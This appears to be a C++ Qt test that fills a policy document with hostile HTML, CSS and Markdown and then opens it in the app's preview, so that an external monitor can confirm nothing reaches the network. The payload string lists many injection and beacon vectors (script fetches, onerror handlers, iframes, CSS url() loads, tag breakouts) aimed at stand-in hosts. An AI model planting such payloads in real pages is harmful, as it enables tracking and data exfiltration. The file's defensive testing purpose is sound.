// SPDX-License-Identifier: Apache-2.0
//
// The window with its real preview, on a policy whose every text, clause and cell refers to servers in all the ways
// that HTML, CSS and Markdown know: `window_offline open` shows all of its views and sections and types some more of
// it; `window_offline control` looks up a name and connects once. Somebody else counts what leaves the machine.
#include "app/gui/interview/InterviewPage.h"
#include "app/gui/interview/QuestionCard.h"
#include "app/gui/interview/SectionPage.h"
#include "app/gui/window/PreviewPanel.h"
#include "app/gui/window/WorkArea.h"
#include "core/session/PackChoice.h"
#include "tests/gui/window/Installation.h"
#include "tests/support/TemporaryFolder.h"

#include <QApplication>
#include <QHostInfo>
#include <QPlainTextEdit>
#include <QSignalSpy>
#include <QTcpSocket>
#include <QTest>

#include <array>
#include <filesystem>
#include <iostream>

namespace policywright::gui::test {
namespace {

// An address that no name server is needed for, and a name.
constexpr std::array kServers{"http://198.51.100.7",   "http://canary.policywright.example",
                              "https://[2001:db8::7]", "//198.51.100.7",
                              "ws://198.51.100.7",     "ftp://198.51.100.7",
                              "file://198.51.100.7/x"};

const std::string kHostile = R"html(
<script>fetch("URL/f")</script><script src="URL/s.js"></script><script type="module">import "URL/m.js"</script>
<img src="URL/i.png" srcset="URL/2.png 2x" onerror="fetch('URL/e')"><img src=x onerror=fetch('URL/o')>
<svg onload="fetch('URL/l')"><use href="URL/u.svg#a"/><image href="URL/g.png"/></svg><iframe src="URL/r.html"></iframe>
<iframe srcdoc="<img src='URL/d.png'>"></iframe><object data="URL/b.svg"></object><embed src="URL/w.swf">
<video src="URL/v.mp4" poster="URL/p.png" autoplay></video><audio src="URL/a.mp3" autoplay></audio>
<style>@import url(URL/c.css);body{background:url(URL/k.png)}@font-face{font-family:f;src:url(URL/t.woff2)}*{font-family:f}</style>
<link rel="stylesheet" href="URL/y.css"><link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL">
<link rel="prefetch" href="URL/h"><link rel="icon" href="URL/j.ico"><meta http-equiv="refresh" content="0;url=URL/z">
<meta http-equiv="x-dns-prefetch-control" content="on"><base href="URL/"><form action="URL/q"><input autofocus onfocus="this.form.submit()"></form>
<p style="background:url(URL/n.png);cursor:url(URL/x.cur),auto">styled</p><a href="URL/1" ping="URL/2">link</a>

![picture](URL/3.png) ![by reference][r] [link](URL/4 "title") <URL/5> URL/6 [script](javascript:fetch('URL/7'))

[r]: URL/8.png "title"

"><img src="URL/9.png">'><script src='URL/10.js'></script>}}</style></title></textarea><img src="URL/11.png">
)html";

std::string hostile(std::size_t number)
{
    std::string text = kHostile;
    const std::string server = kServers.at(number % kServers.size());
    for (std::size_t at = text.find("URL"); at != std::string::npos; at = text.find("URL", at + server.size()))
        text.replace(at, 3, server);
    return text;
}

std::string inOneLine(std::string text)
{
    std::ranges::replace(text, '\n', ' ');
    return text.substr(0, 2000);
}

std::optional<model::Answer> hostileAnswer(const pack::CompiledQuestion &question, std::size_t number)
{
    const std::string text = inOneLine(hostile(number));
    switch (question.logic.type) {
    case pack::AnswerType::Text: return model::Answer(text);
    case pack::AnswerType::LongText: return model::Answer(hostile(number));
    case pack::AnswerType::Person: return model::Answer(model::Person{text, text, text, text});
    case pack::AnswerType::Records: break;
    default: return std::nullopt;
    }
    model::Record record;
    for (const pack::Column &column : question.logic.columns) {
        if (column.type == pack::AnswerType::Text)
            record.emplace_back(column.id, text);
        else if (column.type == pack::AnswerType::Person)
            record.emplace_back(column.id, model::Person{text, text, text, text});
    }
    return model::Answer(model::Records{{record}});
}

int makeHostile(const Installation &installation, const std::string &path)
{
    const Program &program = installation.program();
    auto packs = session::readPacks(program.files, program.templatesFolder, {"base"}, "en");
    if (!packs)
        return 1;
    auto policy = session::newPolicy(path, packs->packs, "en", program.ids);
    if (!policy)
        return 1;
    std::size_t number = 0;
    model::PolicyDocument &document = policy->bundle.policy;
    for (const pack::CompiledQuestion &question : policy->packs->questions()) {
        if (auto answer = hostileAnswer(question, number++))
            document.answers.insert_or_assign(question.logic.id, *std::move(answer));
    }
    for (const pack::CompiledClause &clause : policy->packs->clauses()) {
        document.customWordings.insert_or_assign(
            clause.logic.id, model::CustomWording{hostile(number++), "", "1.0.0", "Mallory", "2026-11-22"});
    }
    document.theme.accent = "url(http://198.51.100.7/accent)";
    const auto saved = session::savePolicy(program.files, *policy);
    return saved ? 0 : 1;
}

// How often the text that is shown names a server.
std::size_t mentions(const assembly::AssembledDocument &document)
{
    std::size_t found = 0;
    for (const assembly::AssembledSection &section : document.sections) {
        for (const assembly::AssembledClause &clause : section.clauses)
            found += static_cast<std::size_t>(QString::fromStdString(clause.content->markdown).count(u"198.51.100.7"));
    }
    return found;
}

// The preview of what was changed last is laid out.
bool isLaidOut(PreviewView &preview)
{
    return QSignalSpy(&preview, &PreviewView::loaded).wait(30'000);
}

int openHostile()
{
    const testing::TemporaryFolder folder;
    Installation installation(std::filesystem::path(folder.path("x")).parent_path().string());
    if (makeHostile(installation, folder.path("a.policy")) != 0)
        return 1;
    Program program = installation.program();
    program.makePreview = newPreview;
    PolicyWindow window(program);
    window.resize(1280, 800);
    window.show();
    window.openFile(QString::fromStdString(folder.path("a.policy")));
    if (!opened(window))
        return 2;
    WorkArea &work = *window.work();
    PreviewView &preview = work.preview().preview();
    if (!isLaidOut(preview))
        return 3;
    std::size_t views = 0;
    std::size_t named = 0;
    for (const ViewId &view : std::vector(work.controller().offeredViews())) {
        if (view != work.controller().view()) {
            work.controller().showView(view);
            if (!isLaidOut(preview))
                return 4;
        }
        QTest::qWait(300); // what a page asks for late
        ++views;
        named += mentions(*work.controller().document());
    }
    const std::size_t sections = work.controller().packs().sections().size();
    for (std::size_t i = 0; i < sections; ++i) {
        work.goToSection(i);
        QTest::qWait(20);
    }
    work.goToQuestion(QuestionId("purpose_statement"));
    if (!QTest::qWaitFor([] { return qobject_cast<QPlainTextEdit *>(QApplication::focusWidget()) != nullptr; }))
        return 5;
    QTest::keyClicks(QApplication::focusWidget(), QString::fromStdString(inOneLine(hostile(0)).substr(0, 400)));
    QTest::qWait(2000);
    std::cout << views << " views and " << sections
              << " sections of the hostile policy were shown, which named a server " << named << " times\n";
    return views > 3 && named > 100 ? 0 : 6;
}

int connectOnce()
{
    QHostInfo::fromName(QStringLiteral("canary.policywright.example"));
    QTcpSocket socket;
    socket.connectToHost(QStringLiteral("198.51.100.7"), 80);
    socket.waitForConnected(2000);
    return 0;
}

} // namespace
} // namespace policywright::gui::test

int main(int argc, char **argv)
{
    const QApplication application(argc, argv);
    const bool isControl = QApplication::arguments().value(1) == QLatin1String("control");
    return isControl ? policywright::gui::test::connectOnce() : policywright::gui::test::openHostile();
}
